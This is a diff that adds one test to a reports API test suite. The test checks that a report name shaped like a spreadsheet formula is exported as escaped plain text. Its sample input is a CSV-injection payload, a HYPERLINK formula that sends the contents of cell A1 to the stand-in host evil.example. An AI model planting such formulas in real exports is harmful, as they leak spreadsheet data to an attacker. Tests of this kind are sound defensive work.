@@ -153,6 +153,15 @@ describe('past, scheduled and instant reports', () => {
     expect(Buffer.byteLength(file.text)).toBe(filed.size);
   });
 
+  it('writes a report name that a spreadsheet would run as a formula as plain text', async () => {
+    const admin = await signedIn('admin');
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const res = await admin.put('/api/reports/v1/instant_reports', { body: { name, reports: ['top_domains'], interval: '7d' } });
+    expect(res.status, res.text).toBe(200);
+    const file = await admin.get(`/api/reports/v1/past_reports/${asResponseOf(instantReport, res.body).id}`);
+    expect(file.text.split('\r\n')[0]).toMatch(/^Report,"'=HYPERLINK\(""http/);
+  });
+
   it('refuses a filter that does not fit a report, with its field path', async () => {
     const admin = await signedIn('admin');
     const res = await admin.put('/api/reports/v1/instant_reports', {
